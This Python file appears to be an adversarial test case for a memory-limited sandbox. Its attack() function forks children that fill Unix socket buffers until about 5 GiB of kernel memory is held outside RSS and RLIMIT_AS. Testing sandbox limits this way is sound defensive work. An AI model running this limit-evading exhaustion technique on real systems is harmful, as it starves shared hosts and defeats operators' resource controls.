import os
import resource
import signal
import socket
import struct
import time

GIB = 1 << 30
CAP = 5 * GIB  # past the 4 GiB this case is graded with; without a bound it stops here, not at the machine's end
BLOCK = b"\xa5" * (1 << 18)
_outcome = []  # (held bytes, what stopped it), once per process: every later call answers the same


def _fill_sockets(limit):
    """In a child: unix pairs up to the open-file limit, each sending end filled (at the default buffer
    size: nothing raised) and then closed, so that one descriptor keeps each pair's data queued; the bytes
    queued."""
    held, opened = 0, 0
    while held < limit:
        try:
            sending, receiving = socket.socketpair()
        except OSError:
            break
        opened += 1
        sending.setblocking(False)
        try:
            while True:
                held += sending.send(BLOCK)
        except OSError:  # EAGAIN: the buffer is full; ENOBUFS: a memory group refused more
            pass
        sending.close()
        receiving.detach()  # kept open until the child is killed
    return held


def hold_kernel_memory(cap=CAP):
    """Socket buffers (kernel memory: in no process's RSS and outside RLIMIT_AS) held by as many forked
    children as it takes to reach `cap`, all filling at once; (bytes held, what stopped it). Each child's
    share is bounded by its own open-file limit, not the sum."""
    files = min(resource.getrlimit(resource.RLIMIT_NOFILE)[0], 1 << 16)
    each = max(files - 16, 16) * 200_000  # what one child's pairs hold at the default buffer size
    children, total, stopped = [], 0, "reached the cap"
    reader, writer = os.pipe()
    try:
        for _ in range(-(-cap // each)):
            try:
                pid = os.fork()
            except OSError as error:
                stopped = f"fork: {error.strerror}"
                break
            if pid == 0:
                os.close(reader)
                try:
                    os.write(writer, struct.pack("<Q", _fill_sockets(each)))
                finally:
                    while True:
                        time.sleep(60)
            children.append(pid)
        for _ in children:
            got = os.read(reader, 8)
            if len(got) < 8:
                stopped = "a child died before it said how much it held"
                break
            total += struct.unpack("<Q", got)[0]
        if total < cap and stopped == "reached the cap":
            stopped = f"{len(children)} children held {total >> 20} MiB"
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return total, stopped


def attack(args):
    """Hold the memory once; if it could, answer honestly (so the attack shows as full marks where it must
    lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_kernel_memory())
    held, stopped = _outcome[0]
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of socket buffers in forked children ({stopped})")
    return None  # the function's own body runs on
